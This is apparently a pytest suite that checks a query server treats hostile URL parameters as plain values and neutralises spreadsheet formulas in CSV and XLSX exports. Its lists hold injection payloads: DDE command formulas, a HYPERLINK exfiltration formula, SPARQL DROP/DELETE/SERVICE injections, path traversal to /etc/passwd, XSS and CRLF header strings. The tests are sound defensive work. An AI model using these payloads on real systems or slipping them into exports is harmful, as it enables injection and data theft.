"""Hostile values in the parameters of saved queries, and hostile cells in what is exported, at a running server."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import pytest
from openpyxl import load_workbook

Server = Any

ID = "https://w3id.org/voetnoot/id/"
INTEGER = "http://www.w3.org/2001/XMLSchema#integer"
TITLE = "http://purl.org/dc/terms/title"
FORMULAS = [
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://127.0.0.1:1/?"&A1,"x")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    '","=1+1","',
]
NUMBERS = ["0", "-5", "12"]
TYPES = ("iri", "string", "integer", "decimal", "boolean", "date", "dateTime", "nl")
HEAD = "#+ summary: {0}?\n#+ summary_nl: {0}?\n#+ description: {0}.\n#+ tags: [overview]\n"
ALL = f"SELECT ?thing ?title WHERE {{ ?thing <{TITLE}> ?title }} ORDER BY ?thing ?title\n"
PARAMETER = "#+ params:\n#+   value: {{type: {0}, required: true, description: Any.}}\n"
COUNT = "SELECT (COUNT(*) AS ?n) WHERE {{ ?s ?p ?o FILTER(?o != ?_value_{0} || ?s = ?s) }}\n"
HOSTILE = [
    *(
        "",
        " ",
        "'",
        '"',
        "\\",
        "\\'",
        '"""',
        "'''",
        "\n",
        "\r\n",
        "\x00",
        "\x1b[2J",
        "\u202e",
        "\ufeff",
        "\ud7ff",
    ),
    *("} DROP ALL #", "> } DELETE WHERE { ?s ?p ?o } #", "' } SERVICE <http://127.0.0.1:1/> { ?s ?p ?o } #"),
    *(
        "urn:x> <urn:y",
        "urn:x}",
        "urn:a b",
        "<urn:x>",
        "?s",
        "$s",
        "?_value_iri",
        "_:b0",
        "ex:a",
        "//127.0.0.1:1/",
    ),
    *(
        "file:///etc/passwd",
        "javascript:alert(1)",
        "../../etc/passwd",
        "id/../../x",
        "data:text/html,<script>",
    ),
    *("9" * 400, "-9223372036854775809", "1e400", "NaN", "0x10", "1_000", "١", "+-1", "1.", ".5", "-0"),
    *("0000-00-00", "9999-99-99", "2022-02-30", "2022-09-13Z", "２０２２-09-13", "2022-09-13T25:00:00", "T"),
    *("true ", "TRUE", "1", "None", "{{7*7}}", "${7*7}", "%s%n", "%00", "%0d%0aSet-Cookie:x=1", "é" * 1500),
    *(
        "a" * 2001,
        "a" * 60_000,
        "<script>alert(1)</script>",
        "'\"><img src=x onerror=alert(1)>",
        "\U0010ffff",
    ),
]


@pytest.fixture(scope="module")
def own(
    serve: Callable[..., Server], tmp_path_factory: pytest.TempPathFactory, new_build: Callable[..., Path]
) -> Server:
    """Return a server over hostile texts, with a saved query for each type of parameter."""
    folder = tmp_path_factory.mktemp("exports")
    core = "https://w3id.org/voetnoot/graph/core"
    extra = [f"<{ID}event/x-{n:02}> <{TITLE}> {_literal(text)} <{core}> ." for n, text in enumerate(FORMULAS)]
    extra += [
        f'<{ID}event/y-{n}> <{TITLE}> "{text}"^^<{INTEGER}> <{core}> .' for n, text in enumerate(NUMBERS)
    ]
    queries = {"all": HEAD.format("All") + ALL}
    queries |= {f"by-{kind.lower()}": (HEAD + PARAMETER + COUNT).format(kind) for kind in TYPES}
    (folder / "queries").mkdir()
    for name, text in queries.items():
        (folder / "queries" / f"{name}.rq").write_text(text, encoding="utf-8")
    store = new_build(folder, "one", claims=2, extra=extra)
    return serve(store, "--queries", str(folder / "queries"))


def _literal(text: str) -> str:
    escaped = text.replace("\\", "\\\\").replace('"', '\\"')
    for letter, name in (("\t", "t"), ("\r", "r"), ("\n", "n")):
        escaped = escaped.replace(letter, f"\\{name}")
    return f'"{escaped}"'


@pytest.mark.parametrize("kind", TYPES)
def test_no_value_of_a_parameter_is_more_than_a_value(own: Server, kind: str) -> None:
    for value in HOSTILE:
        for suffix, accept in ((".json", "*/*"), ("", "text/html")):
            path = f"/queries/by-{kind.lower()}{suffix}?{urlencode({'value': value})}"
            answer = own.request("GET", path, Accept=accept)
            assert (value[:40], answer.status) in {(value[:40], 200), (value[:40], 400)}
            if answer.headers["Content-Type"].startswith("text/html"):
                assert b"<script>alert" not in answer.body
                assert b"<img src=x" not in answer.body
            assert answer.headers["Set-Cookie"] is None
            if answer.status == 200 and suffix:
                assert [row["n"] for row in answer.rows] == [str(8 + 30 + len(FORMULAS) + len(NUMBERS))]
        assert own.ask("ASK { BIND(RAND() AS ?x) }").status == 200


@pytest.mark.parametrize(
    "pairs", [[("value", "1"), ("value", "2")], [("other", "1")], [("value", "1"), ("query", "DROP ALL")]]
)
def test_no_field_but_the_parameter_counts(own: Server, pairs: list[tuple[str, str]]) -> None:
    answer = own.request("GET", f"/queries/by-integer.json?{urlencode(pairs)}")
    assert answer.status == (200 if {name for name, _ in pairs} == {"value"} else 400)


def _safe(text: str) -> bool:
    return not text.startswith((*"=+-@＝＋－＠", "\t", "\r", "\n"))


def test_no_cell_of_a_table_for_people_is_a_formula(own: Server) -> None:
    body = own.request("GET", "/queries/all.safe.csv").body.decode("utf-8-sig")
    cells = [row[1] for row in csv.reader(io.StringIO(body, newline=""))][1:]
    assert len(cells) == len(FORMULAS) + len(NUMBERS)
    assert [cell for cell in cells if not _safe(cell)] == ["-5"]


def test_no_cell_of_a_workbook_is_a_formula(own: Server) -> None:
    book = load_workbook(io.BytesIO(own.request("GET", "/queries/all.xlsx").body))
    rows = list(book.worksheets[0].iter_rows(min_row=2))
    assert {row[1].data_type for row in rows} == {"s", "n"}
    assert [row[1].value for row in rows if row[1].data_type == "n"] == [int(number) for number in NUMBERS]
    assert all(_safe(str(row[1].value)) for row in rows if row[1].data_type == "s")


@pytest.mark.parametrize("number", range(len(FORMULAS)))
def test_no_cell_of_a_thing_s_table_is_a_formula(own: Server, number: int) -> None:
    body = own.request("GET", f"/id/event/x-{number:02}.csv").body.decode()
    (row,) = list(csv.reader(io.StringIO(body, newline="")))[1:]
    assert row[2].endswith(FORMULAS[number])
    assert all(map(_safe, row))


def test_a_number_in_a_thing_s_table_stays_a_number(own: Server) -> None:
    assert b",-5," in own.request("GET", "/id/event/y-1.csv").body
